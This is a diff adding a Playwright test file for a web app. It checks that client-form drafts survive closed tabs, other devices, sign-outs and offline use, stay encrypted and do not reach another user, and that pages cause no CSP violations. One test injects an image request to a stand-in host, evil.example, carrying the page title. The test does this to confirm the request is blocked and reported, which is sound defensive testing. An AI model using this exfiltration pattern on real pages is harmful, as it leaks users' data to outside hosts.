@@ -1,0 +1,148 @@
+import type { BrowserContext, Page } from '@playwright/test'
+import { expect, freshAddress, newPassword, signInAs, signUp, test } from './support/people.ts'
+
+const canary = 'Canary Person'
+const back = 'What you typed before is here again.'
+
+async function openAdd(page: Page) {
+  await page.goto('/app/clients')
+  await page.getByRole('button', { name: 'Add Client' }).first().click()
+  const dialog = page.getByRole('dialog', { name: 'Add New Client' })
+  await expect(dialog).toBeVisible()
+  return dialog
+}
+const nameIn = (dialog: ReturnType<Page['getByRole']>) => dialog.getByLabel('Full name', { exact: true })
+const stored = (page: Page) =>
+  page.evaluate(async () => {
+    const databases = await indexedDB.databases()
+    return JSON.stringify([{ ...localStorage }, { ...sessionStorage }, databases])
+  })
+
+async function signInAgain(context: BrowserContext, email: string): Promise<Page> {
+  await signInAs(context, email, newPassword)
+  return context.newPage()
+}
+
+test('what was typed survives a killed tab, another device and a lost sign-in', async ({ page, context, browser }) => {
+  const email = freshAddress('drafts')
+  await signUp(page, email)
+  let dialog = await openAdd(page)
+  await nameIn(dialog).fill(canary)
+  await expect(dialog.getByText('Draft saved')).toBeVisible()
+  await page.close()
+
+  const second = await context.newPage()
+  dialog = await openAdd(second)
+  await expect(dialog.getByText(back)).toBeVisible()
+  await expect(nameIn(dialog)).toHaveValue(canary)
+  expect(await stored(second)).not.toContain(canary)
+
+  // Leaving the page at once: what was typed in its last moment goes along.
+  await dialog.getByLabel('Age', { exact: true }).fill('34')
+  await second.goto('/help')
+
+  const elsewhere = await browser.newContext({ baseURL: test.info().project.use.baseURL ?? '' })
+  await signInAs(elsewhere, email, newPassword)
+  const third = await elsewhere.newPage()
+  dialog = await openAdd(third)
+  await expect(nameIn(dialog)).toHaveValue(canary)
+  await expect(dialog.getByLabel('Age', { exact: true })).toHaveValue('34')
+
+  // The sign-in session ends on the server while the form is open.
+  await nameIn(dialog).fill(`${canary} again`)
+  await expect(dialog.getByText('Draft saved')).toBeVisible()
+  await second.goto('/app/dashboard')
+  await second
+    .getByRole('button', { name: /account/i })
+    .last()
+    .click()
+  await second.getByRole('menuitem', { name: /log ?out|sign ?out/i }).click()
+  await second.waitForURL((url) => !url.pathname.startsWith('/app'))
+  await expect(third).toHaveURL(/\/auth/, { timeout: 15_000 })
+  await third.close()
+  const fourth = await signInAgain(elsewhere, email)
+  dialog = await openAdd(fourth)
+  await expect(nameIn(dialog)).toHaveValue(`${canary} again`)
+  await elsewhere.close()
+
+  // Back shows nothing of what was there.
+  await second.goBack().catch(() => null)
+  await expect(second.getByText('No clients yet')).toHaveCount(0)
+  await expect(second).toHaveURL(/\/auth|\/$|\/help/)
+})
+
+test('typed without a connection it waits encrypted in this browser, for the same person alone', async ({
+  page,
+  context,
+}) => {
+  const email = freshAddress('offline')
+  await signUp(page, email)
+  let dialog = await openAdd(page)
+  await nameIn(dialog).fill('First')
+  await expect(dialog.getByText('Draft saved')).toBeVisible()
+  await context.setOffline(true)
+  await nameIn(dialog).fill(canary)
+  await expect(dialog.getByText('You are offline. Kept in this browser until you are back.')).toBeVisible()
+  expect(await stored(page)).not.toContain(canary)
+
+  await context.setOffline(false)
+  await expect(dialog.getByText('Draft saved')).toBeVisible()
+  await context.setOffline(true)
+  await nameIn(dialog).fill(`${canary} II`)
+  await expect(dialog.getByText(/You are offline/)).toBeVisible()
+  await page.close()
+  await context.setOffline(false)
+
+  const again = await context.newPage()
+  dialog = await openAdd(again)
+  await expect(nameIn(dialog)).toHaveValue(`${canary} II`)
+  await expect(dialog.getByText('Draft saved')).toBeVisible()
+  await context.setOffline(true)
+  await nameIn(dialog).fill(`${canary} III`)
+  await expect(dialog.getByText(/You are offline/)).toBeVisible()
+  await again.close()
+  await context.setOffline(false)
+
+  // Somebody else on the same browser, whose storage still holds the first one's entry.
+  await context.clearCookies()
+  const other = await context.newPage()
+  await signUp(other, freshAddress('other'))
+  expect(await stored(other)).toContain('openhour.entry')
+  dialog = await openAdd(other)
+  await expect(nameIn(dialog)).toHaveValue('')
+  expect(await stored(other)).not.toContain(canary)
+  await expect(dialog.getByText(back)).toHaveCount(0)
+})
+
+test('pages of the product break no rule of their own policy, and what breaks one is reported', async ({
+  page,
+  context,
+}) => {
+  const refused: string[] = []
+  page.on('console', (message) => {
+    if (/content security policy|permissions-policy|trusted ?type/i.test(message.text())) refused.push(message.text())
+  })
+  for (const path of ['/', '/help', '/auth', '/nothing-here']) {
+    await page.goto(path)
+    await page.waitForLoadState('networkidle')
+  }
+  await signInAs(context, 'premium@demo.test')
+  for (const path of ['/app/dashboard', '/app/clients', '/app/subscription', '/app/settings']) {
+    await page.goto(path)
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+  }
+  expect(refused).toEqual([])
+  await page.goto('/app/dashboard')
+  await page.waitForResponse(/monitor/) // it is fetched once the page has nothing better to do
+  const told = page.waitForRequest(
+    (sent) => sent.url().includes('securityLog') && (sent.postData() ?? '').includes('csp:violation'),
+  )
+  await page.evaluate(() => {
+    const image = new Image()
+    image.src = `https://evil.example/${document.title}.png`
+    document.body.append(image)
+  })
+  const request = await told
+  expect((await request.response())?.status()).toBe(200)
+  expect(request.postData()).not.toMatch(/evil|Openhour/)
+})
